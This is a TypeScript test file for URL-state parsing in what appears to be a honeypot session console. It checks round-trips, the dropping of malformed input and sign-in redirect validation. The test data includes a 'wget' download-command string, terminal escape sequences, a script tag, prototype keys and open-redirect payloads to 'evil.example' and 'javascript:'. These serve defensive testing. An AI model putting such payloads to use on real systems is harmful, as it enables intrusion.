import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  decisionsSearchSchema,
  overviewSearchSchema,
  parseSearch,
  sessionSearchSchema,
  sessionsSearchSchema,
  signInSearchSchema,
  stringifySearch,
} from './url-state.ts';

describe('the address of a page', () => {
  it('carries every filter of the sessions list there and back', () => {
    const search = {
      state: 'open',
      trap: 'ssh',
      source: '2001:db8::1',
      technique: 'T1059.004',
      decision: 'escalate',
      minScore: 0.6,
      authenticated: 'true',
      withCommands: 'false',
      stage: 'impact',
      triedUsername: ' root\n',
      triedSecret: 'a&b=c#%00',
      commandText: 'cd /tmp; wget http://192.0.2.1/x \u202e',
      username: '\u001b[2J',
      client: 'SSH-2.0-Go',
      country: 'unknown',
    } as const;
    const address = stringifySearch(search);
    expect(address).toBe(
      '?state=open&trap=ssh&source=2001%3Adb8%3A%3A1&technique=T1059.004&decision=escalate&minScore=0.6&authenticated=true&withCommands=false&stage=impact&triedUsername=+root%0A&triedSecret=a%26b%3Dc%23%2500&commandText=cd+%2Ftmp%3B+wget+http%3A%2F%2F192.0.2.1%2Fx+%E2%80%AE&username=%1B%5B2J&client=SSH-2.0-Go&country=unknown',
    );
    expect(sessionsSearchSchema.parse(parseSearch(address))).toEqual(search);
  });

  it('leaves out what makes no sense instead of failing', () => {
    expect(
      sessionsSearchSchema.parse(
        parseSearch(
          '?state=maybe&minScore=7&technique=<script>&trap=../x&other=1&country=nl&stage=x&triedUsername=%00&username=',
        ),
      ),
    ).toEqual({});
    expect(overviewSearchSchema.parse(parseSearch('?range=2y'))).toEqual({});
    expect(sessionSearchSchema.parse(parseSearch('?tab=why'))).toEqual({ tab: 'why' });
    expect(decisionsSearchSchema.parse(parseSearch('?kind=monitor&state=done'))).toEqual({ kind: 'monitor' });
  });

  it('never fails, whatever somebody pastes', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const search = sessionsSearchSchema.parse(
          parseSearch(`?source=${text}&minScore=${text}&commandText=${text}&${text}`),
        );
        expect(sessionsSearchSchema.parse(parseSearch(stringifySearch(search)))).toEqual(search);
      }),
    );
  });

  it('treats keys of object prototypes as unknown', () => {
    expect(sessionsSearchSchema.parse(parseSearch('?__proto__=x&constructor=y'))).toEqual({});
  });

  it.each(['https://evil.example', '//evil.example', '/\\evil.example', 'javascript:alert(1)', '/a b'])(
    'does not return to %s after sign-in',
    (next) => {
      expect(signInSearchSchema.parse({ next })).toEqual({});
    },
  );

  it('returns to a page of the console after sign-in', () => {
    expect(signInSearchSchema.parse({ next: '/sessions?state=open#x' })).toEqual({ next: '/sessions?state=open#x' });
  });
});
